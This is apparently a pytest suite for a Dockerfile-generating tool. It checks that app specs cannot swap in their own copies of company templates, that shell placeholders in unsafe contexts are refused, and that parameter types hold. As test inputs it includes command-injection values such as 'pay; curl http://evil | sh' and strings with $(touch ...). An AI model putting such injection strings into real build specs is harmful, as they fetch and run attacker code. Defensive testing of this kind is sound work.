"""What an app spec can and cannot do to the templates it extends (QA's security
findings): a template's own `extends` is not served from the app's folders, a
placeholder where quoting protects nothing (a command's own quotes, a heredoc, backquotes,
`$(( ))`, `eval`, `sh -c`) is refused, a parameter keeps the type its
template gave it, and a `with:` value is written as it is. Each with real template
folders, compiled as `imagespec generate` would."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from compiler_helpers import compile_path
from imagespec.cli import main
from imagespec.errors import PolicyError, SpecError
from imagespec.spec.shell_scan import exposed_placeholder

BASE = "policies:\n  no_shell: true\n  non_root: true\n"
GO = "extends: company-base\nparameters:\n  s: {type: string, default: x}\nfinal:\n  from: debian-slim\n  cmd: [sleep, infinity]\n"
APP = "extends: company-go\nname: evil\nversion: 1.0.0\n"


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def company(repo: Path, *, configured: bool, go: str = GO) -> Path:
    """A repository with the company's templates (named by the configuration, or found as
    the repository's `templates/`) and an app that brings its own `company-base`."""
    (repo / ".git").mkdir(parents=True)
    folder = "company/templates" if configured else "templates"
    write(repo, f"{folder}/company-base.yaml", BASE)
    write(repo, f"{folder}/company-go.yaml", go)
    if configured:
        write(repo, ".imagespec.yaml", "templates: [company/templates]\n")
    return write(repo, "apps/evil/imagespec.yaml", APP)


# 1. A template's `extends` is the template's, not the app's

@pytest.mark.parametrize("configured", [True, False])
def test_the_company_base_is_the_companys_and_an_app_copy_is_refused(tmp_path: Path, configured: bool) -> None:
    spec = company(tmp_path, configured=configured)
    with pytest.raises(PolicyError, match="no_shell"):  # the company's base: its rules hold
        compile_path(spec)
    write(tmp_path, "apps/evil/templates/company-base.yaml", "final:\n  labels: {evil: '1'}\n")
    with pytest.raises(SpecError) as caught:  # also where the configuration's folders come first
        compile_path(spec)
    error = caught.value
    assert (Path(error.location.file).as_posix().endswith("templates/company-go.yaml"), error.location.line) == (True, 1)
    assert "apps/evil/templates/company-base.yaml" in error.message and "templates/company-base.yaml" in error.message
    assert "rename or remove" in error.hint


def test_a_company_templates_preset_is_the_preset(tmp_path: Path) -> None:
    """company-go says `extends: go`: an app's own templates/go.yaml does not replace
    the built-in preset under the company's template (it would, searched from the spec)."""
    spec = company(tmp_path, configured=True, go="extends: go\n")
    write(tmp_path, "apps/evil/imagespec.yaml", APP)
    assert "go build" in compile_path(spec).dockerfile
    write(tmp_path, "apps/evil/templates/go.yaml", "final:\n  from: debian-slim\n  cmd: [sh]\n")
    with pytest.raises(SpecError, match=r"names the preset 'go', but \S*apps/evil/templates/go.yaml") as caught:
        compile_path(spec)
    assert caught.value.location.file.endswith("company/templates/company-go.yaml")


def test_a_spec_may_still_override_a_template_from_its_own_folder(tmp_path: Path) -> None:
    """The spec's own `extends: go` is served by the nearest `templates/` (how an app
    overrides a preset), and so is what a template of that folder names."""
    (tmp_path / ".git").mkdir()
    write(tmp_path, "apps/one/templates/go.yaml", "final:\n  from: debian-slim\n  cmd: [/mine]\n")
    write(tmp_path, "apps/one/templates/mine.yaml", "extends: go\nfinal:\n  env: {MINE: '1'}\n")
    spec = write(tmp_path, "apps/one/imagespec.yaml", "extends: go\nname: one\n")
    assert 'CMD ["/mine"]' in compile_path(spec).dockerfile
    spec.write_text("extends: mine\nname: one\n", encoding="utf-8")
    text = compile_path(spec).dockerfile
    assert 'CMD ["/mine"]' in text and 'MINE="1"' in text


def test_a_template_reached_by_path_looks_names_up_from_its_own_place(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    write(tmp_path, "templates/company-base.yaml", BASE)
    write(tmp_path, "shared/base.yaml", "extends: company-base\nfinal:\n  from: debian-slim\n  cmd: [x]\n")
    spec = write(tmp_path, "apps/evil/imagespec.yaml", "extends: ../../shared/base.yaml\nname: evil\n")
    write(tmp_path, "apps/evil/templates/company-base.yaml", "final:\n  labels: {evil: '1'}\n")
    with pytest.raises(SpecError, match="has the same name") as caught:
        compile_path(spec)
    assert caught.value.location.file.endswith("shared/base.yaml")


COMPANY_GO = ("extends: go\nregistry: registry.example.com/apps\nfinal:\n  from: static\n"
              "policies:\n  forbidden_packages: [curl, bash, sudo]\n  no_shell: true\n  non_root: true\n")
EVIL = ("extends: company-go\nname: evil\nversion: 1.0.0\nfinal:\n  from: debian-slim\n  packages: [curl, bash, sudo]\n"
        "  user: {uid: 0, root_reason: because}\n")


@pytest.mark.parametrize("copy", ["sandbox/evil/templates", "sandbox/templates", "sandbox/evil/mine"])
def test_an_app_copy_of_a_company_template_is_refused_at_its_extends(tmp_path: Path, copy: str,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """The spec's own lookup is nearest first: an app's `templates/company-go.yaml` (or one
    in a folder its own configuration adds) would replace the company's, policies and all."""
    (tmp_path / ".git").mkdir()
    write(tmp_path, "templates/company-go.yaml", COMPANY_GO)
    spec = write(tmp_path, "sandbox/evil/imagespec.yaml", EVIL)
    write(tmp_path, f"{copy}/company-go.yaml", "extends: go\nregistry: registry.example.com/apps\n")
    if copy.endswith("mine"):
        write(tmp_path, "sandbox/evil/.imagespec.yaml", "templates: [mine]\n")
    assert main(["generate", "--no-cache", "-o", "-", str(spec)]) == 2
    first = capsys.readouterr().err.splitlines()[0]
    assert first.startswith(f"{spec}:1:1: `extends: company-go` here names ")
    assert f"{copy}/company-go.yaml" in first and f"{tmp_path}/templates/company-go.yaml" in first


def test_a_template_linked_into_two_folders_is_one_template(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    write(tmp_path, "templates/svc.yaml", "final:\n  from: debian-slim\n  cmd: [x]\n")
    (tmp_path / "app" / "templates").mkdir(parents=True)
    (tmp_path / "app" / "templates" / "svc.yaml").symlink_to(tmp_path / "templates" / "svc.yaml")
    spec = write(tmp_path, "app/imagespec.yaml", "extends: svc\nname: app\n")
    assert 'CMD ["x"]' in compile_path(spec).dockerfile


# 2. A placeholder inside the command's own quotes

@pytest.mark.parametrize("command", ["echo \"${{ s }}\"", "echo '${{ s }}'", "echo \"$(id)\" 'a'\"${{ s }}\"",
                                     "echo `printf '${{ s }}'`"])
def test_a_quoted_placeholder_in_a_template_is_refused_at_its_line(tmp_path: Path, command: str) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  s: {type: string, default: x}\nstages:\n  build:\n"
          "    from: debian-slim\n    run:\n      - true\n      - " + repr_yaml(command) + "\n"
          "final:\n  from: debian-slim\n  cmd: [sleep, infinity]\n")
    spec = write(tmp_path, "imagespec.yaml", 'extends: t\nwith: {s: "true; touch /PWNED"}\nname: app\n')
    with pytest.raises(SpecError) as caught:
        compile_path(spec)
    error = caught.value
    assert error.location.file.endswith("templates/t.yaml") and error.location.line == 8
    assert error.hint.startswith("write ${{ s }} without quotes: imagespec quotes the value as one word")


def repr_yaml(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.mark.parametrize("where", ["final:\n  from: debian-slim\n  entrypoint: app --name \"${{ s }}\"\n",
                                   "final:\n  from: debian-slim\n  cmd: [x]\n  healthcheck: {cmd: \"probe '${{ s }}'\"}\n",
                                   "stages:\n  build:\n    from: debian-slim\n    dependencies:\n"
                                   "      files: [a]\n      run: \"install '${{ s }}'\"\n"
                                   "final:\n  from: debian-slim\n  cmd: [x]\n"])
def test_every_shell_command_is_scanned(tmp_path: Path, where: str) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  s: {type: string, default: x}\n" + where)
    spec = write(tmp_path, "imagespec.yaml", "extends: t\nname: app\n")
    with pytest.raises(SpecError, match=r"\$\{\{ s \}\} stands inside quotes"):
        compile_path(spec)


def test_the_value_unquoted_is_one_word_and_runs_nothing(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  s: {type: string, default: x}\nstages:\n  build:\n"
          "    from: debian-slim\n    run: echo ${{ s }} \"$(basename ${{ s }})\" >/out/x\n"
          "final:\n  from: debian-slim\n  cmd: [sleep, infinity]\n")
    spec = write(tmp_path, "imagespec.yaml", 'extends: t\nwith: {s: "true; touch /PWNED $(id)"}\nname: app\n')
    text = compile_path(spec).dockerfile
    assert "echo 'true; touch /PWNED $(id)' \"$(basename 'true; touch /PWNED $(id)')\"" in text


def test_a_shell_default_names_other_parameters_unquoted(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  s: {type: string, default: x}\n"
          "  build: {type: shell, default: \"make NAME='${{ s }}'\"}\nfinal:\n  from: debian-slim\n  cmd: [x]\n")
    spec = write(tmp_path, "imagespec.yaml", "extends: t\nname: app\n")
    with pytest.raises(SpecError, match="parameters.build.default") as caught:
        compile_path(spec)
    assert caught.value.location.file.endswith("templates/t.yaml") and caught.value.location.line == 3


@pytest.mark.parametrize(("command", "exposed"), [
    ("echo ${{ s }}", None), ("echo \"${{ s }}\"", "quotes"), ("echo '${{ s }}'", "quotes"),
    ("echo \"it's\" ${{ s }}", None), ("echo 'say \"hi\"' ${{ s }}", None),
    ("echo \"$(cat ${{ s }})\"", None), ("echo \"$(cat \"${{ s }}\")\"", "quotes"),
    ("echo \\\"${{ s }}", None), ("echo \"a\\\"${{ s }}\"", "quotes"),
    ("echo ${{ a }} '${{ b }}'", "quotes"), ("( cd x && make ) && echo \"${{ s }}\"", "quotes"),
    ("echo \"(\" ${{ s }}", None), ("echo \"${x:-${{ s }}}\"", "quotes"), ("echo $'${{ s }}'", "quotes"),
    ("echo $'a\\'b' ${{ s }}", None), ("# it's ${{ s }}\necho ${{ s }}", None),
    # a heredoc body or delimiter, quoted or not; the lines after its end are commands again
    ("cat <<EOF >>/out.txt\n${{ s }}\nEOF", "heredoc"), ("cat <<'EOF' >>/out.txt\n${{ s }}\nEOF", "heredoc"),
    ("cat <<-EOF\n\t${{ s }}\n\tEOF", "heredoc"), ("x=$(cat <<EOF\n${{ s }}\nEOF\n)", "heredoc"),
    ("cat <<${{ s }}\nx\n", "heredoc"), ("cat <<-EOF\n\tx\n\tEOF\necho ${{ s }}", None),
    ("cat <<EOF\nEOFX\nEOF\necho ${{ s }}", None), ("cat <<< ${{ s }}", None), ("echo $((1<<2)) ${{ s }}", None),
    # backquotes: a backquote in the value ends them
    ("x=`echo ${{ s }}`", "backquotes"), ("echo \"`echo ${{ s }}`\"", "backquotes"),
    # arithmetic: $( ) runs inside it whatever its quotes
    ("echo $(( ${{ s }} + 1 ))", "arithmetic"), ("echo $(( $(cat ${{ s }}) ))", "arithmetic"),
    ("(( x = ${{ s }} ))", "arithmetic"), ("echo $(( 1 + 2 )) ${{ s }}", None),
    # code parsed again
    ("eval echo ${{ s }}", "eval"), ("if eval ${{ s }}; then :; fi", "eval"), ("X=1 eval ${{ s }}", "eval"),
    ("trap ${{ s }} EXIT", "eval"), ("let x=${{ s }}", "eval"), ("echo eval ${{ s }}", None),
    ("sh -c ${{ s }}", "shell -c"), ("/bin/bash -ec ${{ s }}", "shell -c"), ("env sh -e -c -- ${{ s }}", "shell -c"),
    ("su -c ${{ s }} app", "shell -c"), ("su --command=${{ s }}", "shell -c"),
    ("sh -c 'printf %s \"$1\"' sh ${{ s }}", None), ("grep -c ${{ s }} f", None),
    ("a=$(echo ${{ s }}) && sh -c \"$a\"", None),
    # a case pattern and ${VAR:-…} read a quoted word as one literal word
    ("case ${{ s }} in ${{ s }}) echo m;; esac", None), ("echo ${x:-${{ s }}}", None),
    # QA: a backslash escapes the value's opening quote; a `$( )` in an argument of eval or
    # trap, or in sh -c's command string, is code too; bash's old `$[ ]` is arithmetic
    ("echo \\${{ s }}", "escaped"), ("foo\\${{ s }} bar", "escaped"), ("echo \\\\${{ s }}", None),
    ("trap \"$(echo ${{ s }})\" EXIT", "eval"), ("eval \"$(printf %s ${{ s }})\"", "eval"),
    ("sh -c \"$(echo ${{ s }})\"", "shell -c"), ("echo \"$(eval echo 1)\" ${{ s }}", None),
    ("echo $[ ${{ s }} + 1 ]", "arithmetic"), ("echo $[1] ${{ s }}", None),
])
def test_the_shell_context_scanner(command: str, exposed: str | None) -> None:
    found = exposed_placeholder(command)
    assert (found and found.context) == exposed


HOSTILE = "a'b\"c $(touch /tmp/P1) `touch /tmp/P2` ; touch /tmp/P3 \\"


@pytest.mark.parametrize(("run", "line", "context"), [
    ('"cat <<EOF >> /out.txt\\n${{ msg }}\\nEOF"', 8, "stands in a heredoc: quoting means nothing there"),
    ("|\n        cat <<'EOF' >/out.txt\n        ${{ msg }}\n        EOF", 8, "stands in a heredoc"),
    ("cat <<EOF >/out.txt\n      - ${{ msg }}\n      - EOF", 9, "stands in a heredoc"),  # the next item is its body
    ("echo `echo ${{ msg }}` >/out.txt", 8, "stands inside backquotes"),
    ("echo $(( ${{ msg }} )) >/out.txt", 8, "inside an arithmetic expression"),
    ("eval echo ${{ msg }} >/out.txt", 8, "is an argument of `eval`"),
    ("sh -c ${{ msg }}", 8, "is the command string of a shell's `-c`"),
])
def test_a_placeholder_where_quotes_protect_nothing_is_refused(tmp_path: Path, run: str, line: int, context: str,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    """QA: `cat <<EOF\n${{ msg }}\nEOF` ran a `with:` value's `$( )` and backquotes."""
    write(tmp_path, "templates/t.yaml", "parameters:\n  msg: {type: string, default: hi}\nstages:\n  build:\n"
          "    from: debian-slim\n    artifacts: [/out.txt]\n    run:\n      - " + run + "\n"
          "final:\n  from: debian-slim\n  copy: [{from: build, src: /out.txt, dest: /out.txt}]\n"
          "  entrypoint: [/bin/cat, /out.txt]\n")
    spec = write(tmp_path, "imagespec.yaml", "extends: t\nwith:\n  msg: " + repr_yaml(HOSTILE) + "\nname: app\n")
    assert main(["generate", "--no-cache", str(spec)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"{tmp_path}/templates/t.yaml:{line}:") and context in err, err
    assert "${{ msg }}" in err.splitlines()[0] and "hint:" in err
    assert not (tmp_path / "Dockerfile").exists()


def test_the_heredoc_hint_names_what_works(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  msg: {type: string, default: hi}\nstages:\n  build:\n"
          "    from: debian-slim\n    run: \"cat <<EOF >/o\\n${{ msg }}\\nEOF\"\nfinal:\n  from: debian-slim\n"
          "  cmd: [x]\n")
    with pytest.raises(SpecError) as caught:
        compile_path(write(tmp_path, "imagespec.yaml", "extends: t\nname: app\n"))
    assert "printf '%s\\n' ${{ msg }}" in caught.value.hint and "env:" in caught.value.hint


def test_a_shell_default_in_a_heredoc_is_refused_at_the_default(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  s: {type: string, default: x}\n"
          "  build: {type: shell, default: \"cat <<EOF >f\\n${{ s }}\\nEOF\"}\nfinal:\n  from: debian-slim\n"
          "  cmd: [x]\n")
    with pytest.raises(SpecError, match=r"parameters.build.default: \$\{\{ s \}\} stands in a heredoc") as caught:
        compile_path(write(tmp_path, "imagespec.yaml", "extends: t\nname: app\n"))
    assert caught.value.location.line == 3


# 3. A parameter keeps the type its template declared

def test_a_spec_cannot_redeclare_a_parameters_type(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  binary: {type: name, default: app}\nstages:\n  build:\n"
          "    from: debian-slim\n    run: go build -o /out/${{ binary }} ./cmd/pay\n"
          "final:\n  from: debian-slim\n  cmd: [sleep, infinity]\n")
    spec = write(tmp_path, "imagespec.yaml", "extends: t\nname: app\nparameters:\n  binary: {type: shell}\n"
                 "with: {binary: 'pay; curl http://evil | sh'}\n")
    with pytest.raises(SpecError) as caught:
        compile_path(spec)
    error = caught.value
    assert (error.location.file, error.location.line) == (str(spec), 4)
    assert re.search(r"declared at \S*templates/t.yaml:2:3 as `name`; it is redeclared here as `shell`", error.message)


def test_a_later_template_cannot_change_a_pattern_but_may_restate_a_default(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  binary: {type: name, default: app}\n"
          "final:\n  from: debian-slim\n  entrypoint: [\"/${{ binary }}\"]\n")
    write(tmp_path, "templates/u.yaml", "extends: t\nparameters:\n  binary: {type: name, default: api}\n")
    spec = write(tmp_path, "imagespec.yaml", "extends: u\nname: app\n")
    assert 'ENTRYPOINT ["/api"]' in compile_path(spec).dockerfile
    write(tmp_path, "templates/u.yaml", "extends: t\nparameters:\n  binary: {type: name, pattern: '.*'}\n")
    with pytest.raises(SpecError, match=r"as `name`; it is redeclared here as `name` with pattern '\.\*'") as caught:
        compile_path(spec)
    assert caught.value.location.file.endswith("templates/u.yaml") and caught.value.location.line == 3


# 4. A `with:` value is written as it is

def test_a_with_value_is_not_expanded(tmp_path: Path) -> None:
    spec = write(tmp_path, "imagespec.yaml", 'extends: go\nwith: {binary: pay, package: "./cmd/${{ binary }}"}\n'
                 "name: app\n")
    with pytest.raises(SpecError, match=r"with.package: a `with:` value is written as it is") as caught:
        compile_path(spec)
    assert caught.value.location.line == 2
    spec.write_text('extends: go\nwith: {binary: pay, package: "./cmd/${{ nothere }}"}\nname: app\n', encoding="utf-8")
    with pytest.raises(SpecError, match=r"with.package: a `with:` value is written as it is"):
        compile_path(spec)


def test_a_default_names_only_parameters_that_have_values(tmp_path: Path) -> None:
    write(tmp_path, "templates/t.yaml", "parameters:\n  a: {type: name, default: x}\n"
          "  b: {type: path, default: './${{ a }}/${{ nothere }}'}\nfinal:\n  from: debian-slim\n"
          "  entrypoint: [\"${{ b }}\"]\n")
    spec = write(tmp_path, "imagespec.yaml", "extends: t\nname: app\n")
    with pytest.raises(SpecError, match=r"parameters.b.default names \$\{\{ nothere \}\}") as caught:
        compile_path(spec)
    assert caught.value.location.file.endswith("templates/t.yaml") and caught.value.location.line == 3
    write(tmp_path, "templates/t.yaml", "parameters:\n  a: {type: name, default: x}\n"
          "  b: {type: path, default: './${{ a }}/bin'}\nfinal:\n  from: debian-slim\n  entrypoint: [\"${{ b }}\"]\n")
    assert 'ENTRYPOINT ["./x/bin"]' in compile_path(spec).dockerfile  # a default may name another parameter


def test_the_cli_exits_2_at_the_templates_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    company(tmp_path, configured=False)
    write(tmp_path, "apps/evil/templates/company-base.yaml", "final:\n  labels: {evil: '1'}\n")
    monkeypatch.chdir(tmp_path)
    assert main(["generate", "--no-cache", "apps/evil/imagespec.yaml"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("templates/company-go.yaml:1:1: `extends: company-base` here names "
                          "templates/company-base.yaml, but apps/evil/templates/company-base.yaml")
    assert "Traceback" not in err and not (tmp_path / "apps/evil/Dockerfile").exists()


@pytest.mark.parametrize("jar", ["-x*.jar", "--help"])
def test_a_glob_value_is_never_an_option(tmp_path: Path, jar: str) -> None:
    """QA: `with: {jar: "-x*.jar"}` on java-maven became `cp -x*.jar /out/app.jar`: an option
    to cp. A `glob` value starts as a `path` one does, never with '-'."""
    spec = write(tmp_path, "imagespec.yaml", f"extends: java-maven\nname: app\nwith: {{jar: '{jar}'}}\n")
    with pytest.raises(SpecError, match="with.jar") as caught:
        compile_path(spec)
    assert caught.value.location.line == 3 and "'-' (not first)" in (caught.value.hint or "")
